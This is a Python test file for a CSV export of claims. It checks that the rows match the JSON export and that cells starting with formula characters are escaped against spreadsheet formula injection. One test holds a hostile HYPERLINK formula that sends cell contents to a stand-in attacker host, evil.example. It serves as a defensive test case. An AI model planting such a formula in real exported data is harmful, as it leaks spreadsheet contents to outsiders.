"""Claims as CSV: the same claims as JSON Lines, and no formula for a spreadsheet to run."""

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from sayso.export.csv import COLUMNS, guard, read_csv, row, unguard, write_csv
from sayso.export.jsonl import claim_to_json
from sayso.posts import Part

from .sample import reading


def written(made) -> str:
    out = io.StringIO(newline="")
    write_csv([made], out)
    return out.getvalue()


def test_says_the_same_as_json() -> None:
    made = reading()
    rows = list(read_csv(io.StringIO(written(made), newline="")))
    assert len(rows) == len(made.claims)
    for cells, claim in zip(rows, made.claims, strict=True):
        value = claim_to_json(claim)
        assert tuple(cells) == COLUMNS
        assert cells["id"] == value["id"]
        assert cells["content"] == value["content"]["text"]
        assert [[int(x) for x in s.split("-")] for s in cells["content_spans"].split(";")] == value["content"]["spans"]
        assert cells["chain"].split(" ‹ ") == [holder["name"] for holder in value["chain"]]
        assert cells["holder"] == claim.holder.name
        assert float(cells["confidence"]) == value["confidence"]
        forecast = value["forecast"] or {}
        assert cells["condition"].split(" | ")[0] == (forecast.get("condition") or {"text": ""})["text"]
        assert cells["horizon_to"] == ((forecast.get("horizon") or {}).get("to") or "")
        assert cells["probability_low"] == str((forecast.get("probability") or {}).get("low", ""))
        assert (cells["resolvable"] == "true") == forecast.get("resolvable", False)


def test_several_conditions_and_holders() -> None:
    cells = list(read_csv(io.StringIO(written(reading()), newline="")))[5]
    assert cells["condition"] == "unless parliament votes the money | the court keeps quiet"
    assert cells["condition_spans"].count("|") == 1
    assert cells["chain"] == "Marta Havlik ‹ Anton Velde"
    assert cells["chain_spans"].count("|") == 1


def test_every_column_is_filled_by_some_claim() -> None:
    filled = set().union(*(row(claim) for claim in reading().claims))
    assert filled == set(COLUMNS)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2", "@SUM(A1)", "\t=1", "'=1", "''@x", "＝1"])
def test_no_formula(text: str) -> None:
    assert guard(text)[0] == "'"
    assert unguard(guard(text)) == text


def test_a_hostile_comment() -> None:
    made = reading()
    text = '=HYPERLINK("https://evil.example/?"&A1,"see")'
    made.claims = [replace(made.claims[0], content=Part(text, ((0, len(text)),)))]
    cells = next(csv.DictReader(io.StringIO(written(made), newline="")))
    assert cells["content"] == "'" + text
    assert next(read_csv(io.StringIO(written(made), newline="")))["content"] == text


@given(st.text(max_size=30))
@example("'quoted' at once")
@example("'=")
def test_guard_is_undone(text: str) -> None:
    assert unguard(guard(text)) == text
    assert guard(text)[:1] not in tuple("=+-@\t\r\n")
